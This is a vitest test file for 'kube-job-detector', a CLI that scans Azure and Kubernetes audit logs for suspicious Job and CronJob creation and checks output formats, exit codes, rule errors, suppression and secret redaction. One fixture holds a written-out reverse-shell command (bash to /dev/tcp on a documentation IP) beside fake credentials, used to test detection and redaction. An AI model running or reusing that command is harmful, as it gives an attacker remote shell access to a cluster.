import { mkdtempSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FINDING_COLUMNS } from '../../src/findings/schema.js';
import { runDetection } from '../../src/cli/scan-command.js';
import type { InputItem } from '../../src/inputs/read-inputs.js';
import { captureIo, cli } from '../helpers/cli.js';
import { activityRecord } from '../helpers/detector.js';
import { aksRecord, auditEvent, cronJobBody, podSpec } from '../helpers/audit.js';
import { REPO_ROOT } from '../helpers/shared.js';

const SAMPLES = join(REPO_ROOT, 'samples', 'activity-log');
const tmp = () => mkdtempSync(join(tmpdir(), 'kjd-cli-'));

/** A rules directory holding the bundled Activity Log CronJob rule. */
function rulesWithCronjob(): string {
  const rules = tmp();
  writeFileSync(
    join(rules, 'cronjob.yml'),
    readFileSync(join(REPO_ROOT, 'rules', 'azure', 'activitylogs', 'azure_kubernetes_cronjob.yml')),
  );
  return rules;
}

describe('kube-job-detector scan', () => {
  it('emits one finding row per matching record as JSON Lines', async () => {
    const { code, stdout, stderr } = await cli('scan', '--format', 'jsonl', SAMPLES);
    expect(code).toBe(0);
    const rows = stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(rows).toHaveLength(6);
    for (const row of rows) {
      expect(Object.keys(row).sort()).toEqual([...FINDING_COLUMNS].sort());
      expect(row['RuleId']).toBe('1c71e254-6655-42c1-b2d6-5e4718d7fc0a');
      expect(row['SourceRecordId']).toMatch(/^[0-9a-f-]{36}$/);
    }
    expect(new Set(rows.map((r) => r['FindingId'])).size).toBe(3);
    expect(rows.map((r) => r['ClusterKind'])).toContain('ConnectedCluster');
    expect(stderr).toMatch(/Findings: 6/);
    // Three JSON Lines bodies hold nothing the rules could match: skipped unparsed, and counted. In
    // the others, read record by record, the two records no rule could match are counted unparsed.
    expect(stderr).toMatch(
      /Read 7 bodies, 14 records: 12 Activity Log, 0 kube-audit, 0 other, 2 left unparsed\./,
    );
    expect(stderr).toMatch(
      /Prefilter: 3 bodies could not match.*; 2 records of other bodies could not match and were left unparsed;/,
    );
  });

  it('prints a table by default', async () => {
    const { code, stdout } = await cli('scan', SAMPLES);
    expect(code).toBe(0);
    expect(stdout.split('\n')[0]).toMatch(/^TIME \(UTC\)\s+FINDING\s+SEVERITY/);
    expect(stdout).toMatch(/arc-store-117\s+batch\/jobs\/write/);
  });

  it('writes to --output and exits 3 when some input is unreadable, still reporting the rest', async () => {
    const dir = tmp();
    writeFileSync(
      join(dir, 'good.json'),
      JSON.stringify({
        records: [activityRecord('MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/JOBS/WRITE')],
      }),
    );
    writeFileSync(join(dir, 'bad.jsonl'), '{"records": [\n');
    const output = join(dir, 'out.jsonl');
    const { code, stdout, stderr } = await cli(
      'scan',
      '--format',
      'jsonl',
      '--output',
      output,
      dir,
      join(dir, 'nope.json'),
    );
    expect(code).toBe(3);
    expect(stdout).toBe('');
    expect(readFileSync(output, 'utf8').trim().split('\n')).toHaveLength(1);
    expect(stderr).toMatch(/bad\.jsonl, line 1: not JSON/);
    expect(stderr).toMatch(/nope\.json: cannot read/);
  });

  it('exits 2 when no rule compiles, naming file and location', async () => {
    const rules = tmp();
    mkdirSync(join(rules, 'x'));
    writeFileSync(
      join(rules, 'x', 'bad.yml'),
      'title: bad\nlogsource:\n  product: azure\n  service: activitylogs\ndetection:\n  sel:\n    f|nonsense: 1\n  condition: sel\n',
    );
    const { code, stderr } = await cli('scan', '--rules', rules, SAMPLES);
    expect(code).toBe(2);
    expect(stderr).toMatch(/bad\.yml:7:5: detection\.sel\.f\|nonsense: unknown modifier "nonsense"/);
  });

  it('scans with the good rules when some do not compile, names each bad file and exits 5', async () => {
    const rules = rulesWithCronjob();
    writeFileSync(
      join(rules, 'chain.yml'),
      'title: chain\nlogsource:\n  product: azure\n  service: activitylogs\ndetection:\n  sel:\n    operationName|contains|base64: jobs\n  condition: sel\n',
    );
    writeFileSync(
      join(rules, 'deep.yml'),
      `title: deep\nlogsource:\n  product: azure\n  service: activitylogs\ndetection:\n  sel:\n    f: 1\n  condition: ${'('.repeat(3000)}sel${')'.repeat(3000)}\n`,
    );
    const { code, stdout, stderr } = await cli('scan', '--rules', rules, '--format', 'jsonl', SAMPLES);
    expect(code).toBe(5);
    expect(stdout.trim().split('\n')).toHaveLength(6);
    expect(stderr).toMatch(
      /rule file \S*chain\.yml not loaded:\n.*chain\.yml:7:5: detection\.sel\.operationName\|contains\|base64: "base64" cannot follow "contains"/,
    );
    expect(stderr).toMatch(
      /rule file \S*deep\.yml not loaded:\n.*deep\.yml:8:\d+: detection\.condition: .*nested too deeply/,
    );
    expect(stderr).toMatch(/2 rule file\(s\) not loaded; going on with 1 rule\(s\)/);
    expect(stderr).toMatch(/Rule files not loaded \(see above\): \S*chain\.yml, \S*deep\.yml\./);
  });

  it('counts suppressed findings in the summary and lists them with --show-suppressed', async () => {
    const rules = rulesWithCronjob();
    writeFileSync(
      join(rules, 'exceptions.yml'),
      "exceptions:\n  - id: arc-edge\n    reason: the edge team's deployment pipeline runs Jobs on Arc clusters\n    clusters: ['arc-*']\n",
    );
    const table = await cli('scan', '--rules', rules, '--show-suppressed', SAMPLES);
    expect(table.code).toBe(0);
    expect(table.stderr).toMatch(/Suppressed by exceptions: 2 \(arc-edge: 2\)/);
    expect(table.stdout).toMatch(/Suppressed by exceptions:\n.*EXCEPTION\n(.*arc-store-117.*arc-edge\n){2}/);
    const jsonl = await cli('scan', '--rules', rules, '--format', 'jsonl', '--show-suppressed', SAMPLES);
    expect(jsonl.stdout.trim().split('\n')).toHaveLength(4);
    const listed = jsonl.stderr
      .split('\n')
      .filter((l) => l.startsWith('{'))
      .map((l) => JSON.parse(l) as { suppressedBy: string; finding: { ClusterName: string } });
    expect(listed.map((l) => [l.suppressedBy, l.finding.ClusterName])).toEqual([
      ['arc-edge', 'arc-store-117'],
      ['arc-edge', 'arc-store-117'],
    ]);
    // Without the flag they are only counted.
    const quiet = await cli('scan', '--rules', rules, '--format', 'jsonl', SAMPLES);
    expect(quiet.stderr).toMatch(/Suppressed by exceptions: 2 \(arc-edge: 2\)/);
    expect(quiet.stderr).not.toContain('suppressedBy');
    expect(quiet.stdout.trim().split('\n')).toHaveLength(4);
  });

  it('exits 2 on usage errors', async () => {
    expect((await cli('scan', '--format', 'xml', SAMPLES)).code).toBe(2);
    expect((await cli('scan')).code).toBe(2);
    expect((await cli('scan', '--rules', '/nonexistent/rules', SAMPLES)).code).toBe(2);
  });
});

describe('kube-job-detector scan: rows while the scan goes on', () => {
  it('writes the rows in groups of 500 as the findings come, not all at the end', async () => {
    const io = captureIo();
    const written = () =>
      io
        .written()
        .stdout.split('\n')
        .filter((line) => line !== '').length;
    const seen: number[] = [];
    async function* batches(): AsyncGenerator<readonly InputItem[]> {
      for (let n = 0; n < 1100; n++) {
        if (n === 250 || n === 500 || n === 1000) {
          // Let the output stream hand on what was written.
          await new Promise((resolve) => setImmediate(resolve));
          seen.push(written());
        }
        const record = activityRecord('MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/BATCH/JOBS/WRITE', {
          correlationId: `6b0f3c2e-8d41-4a7e-b1c9-${String(n).padStart(12, '0')}`,
        });
        yield [
          { kind: 'body', body: { records: [record] }, origin: { file: 'generated.json', line: n + 1 } },
        ];
      }
    }
    const code = await runDetection({ format: 'jsonl', rules: [rulesWithCronjob()] }, io, () =>
      Promise.resolve(batches()),
    );
    expect(code).toBe(0);
    expect(seen).toEqual([0, 500, 1000]);
    expect(written()).toBe(1100);
  });
});

describe('kube-job-detector scan: what findings keep', () => {
  const writeSecretJob = (): string => {
    const dir = tmp();
    const event = auditEvent({
      requestObject: cronJobBody(
        podSpec({
          image: 'alpine:3.20',
          command: [
            'sh',
            '-c',
            'psql postgresql://app:S3cr3tPassw0rd@db:5432/x; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
          ],
          env: [{ name: 'API_TOKEN', value: 'tok-4f9a8b7c6d5e' }],
        }),
      ),
    });
    writeFileSync(join(dir, 'audit.json'), JSON.stringify({ records: [aksRecord(event)] }));
    return dir;
  };

  it('redacts secrets by default, keeps them with --no-redact, and keeps the shell either way', async () => {
    const dir = writeSecretJob();
    const redacted = await cli('scan', '--format', 'jsonl', dir);
    expect(redacted.code).toBe(0);
    expect(redacted.stdout).toContain('bash -i >& /dev/tcp/203.0.113.7/4444');
    expect(redacted.stdout).not.toContain('S3cr3tPassw0rd');
    expect(redacted.stdout).not.toContain('tok-4f9a8b7c6d5e');
    expect(redacted.stdout).toContain('[redacted:env:');
    const kept = await cli('scan', '--format', 'jsonl', '--no-redact', dir);
    expect(kept.stdout).toContain('S3cr3tPassw0rd');
    expect(kept.stdout).toContain('tok-4f9a8b7c6d5e');
  });

  it('prints each finding as it comes in table mode, with the event time', async () => {
    const { stdout } = await cli('scan', writeSecretJob());
    const lines = stdout.trim().split('\n');
    expect(lines[0]).toMatch(/^TIME \(UTC\)/);
    expect(lines.filter((l) => l.startsWith('TIME'))).toHaveLength(1);
    expect(lines[1]).toMatch(/^2025-03-04 09:15:27\s+\S{8}\s+critical|high/);
  });
});
